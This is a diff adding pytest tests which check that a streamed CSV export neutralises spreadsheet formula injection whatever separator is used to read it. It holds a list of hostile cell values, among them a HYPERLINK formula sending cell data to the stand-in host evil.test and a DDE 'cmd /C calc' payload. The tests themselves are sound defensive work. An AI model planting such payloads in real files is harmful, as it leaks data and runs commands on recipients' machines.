@@ -31,3 +31,45 @@ def test_the_streamed_response_is_a_csv_attachment_with_every_row():
     assert response["Content-Type"] == "text/csv; charset=utf-8"
     assert response["Content-Disposition"] == 'attachment; filename="x.csv"'
     assert list(csv.reader(io.StringIO(body))) == [["a", "b"], ["'=1", "ok"], ["2", ""]]
+
+
+HOSTILE_CELLS = [
+    'x;=HYPERLINK("http://evil.test/?"&A1,"Click")',
+    "Mozilla/5.0;+cmd|' /C calc'!A0",
+    "agent\t=1+1",
+    "a, -2+3",
+    'quoted;"=cmd"',
+    "name;  @SUM(A1:A9)",
+    "two\nlines\n=cmd",
+    "first\r-cmd",
+    " =1+1",
+    '"=1+1"',
+]
+
+
+def _fields_as_a_spreadsheet_might_read(body: str, separator: str) -> list[str]:
+    """Every field a spreadsheet could make of the file with this separator: with quotes honoured (csv module) and
+    with quotes ignored (a plain split on rows and the separator)."""
+    honoured = [field for row in csv.reader(io.StringIO(body), delimiter=separator) for field in row]
+    ignored = [field for line in body.replace("\r", "\n").split("\n") for field in line.split(separator)]
+    return honoured + ignored
+
+
+@pytest.mark.parametrize("separator", [",", ";", "\t"], ids=["comma", "semicolon", "tab"])
+def test_no_cell_becomes_a_formula_when_the_file_is_read_with_another_separator(separator):
+    response = streamed_csv(filename="x.csv", header=["user agent"], rows=[[cell] for cell in HOSTILE_CELLS])
+    body = b"".join(response.streaming_content).decode()
+
+    fields = _fields_as_a_spreadsheet_might_read(body, separator)
+
+    formulas = [field for field in fields if field.lstrip(' "\t').startswith(("=", "+", "-", "@"))]
+    assert formulas == []
+
+
+@pytest.mark.parametrize("value", HOSTILE_CELLS)
+def test_a_hostile_cell_reads_back_whole_with_only_quote_marks_added(value):
+    response = streamed_csv(filename="x.csv", header=["cell"], rows=[[value]])
+
+    (_, (exported,)) = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode(), newline="")))
+
+    assert exported.replace("'", "") == value.replace("'", "")
